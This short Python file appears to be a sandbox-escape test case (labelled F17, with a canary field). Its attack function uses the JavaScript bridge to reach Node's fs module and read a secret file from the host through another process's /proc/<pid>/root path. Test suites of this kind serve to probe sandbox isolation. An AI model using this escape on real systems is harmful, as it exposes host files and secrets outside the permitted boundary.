"""The host's files through another process's /proc/<pid>/root.

id: F17
canary: secret
"""

import js


def attack(target):
    path = f"/proc/{target.victim}/root{target.secret_file}"
    return js.process.getBuiltinModule("fs").readFileSync(path, "utf8")
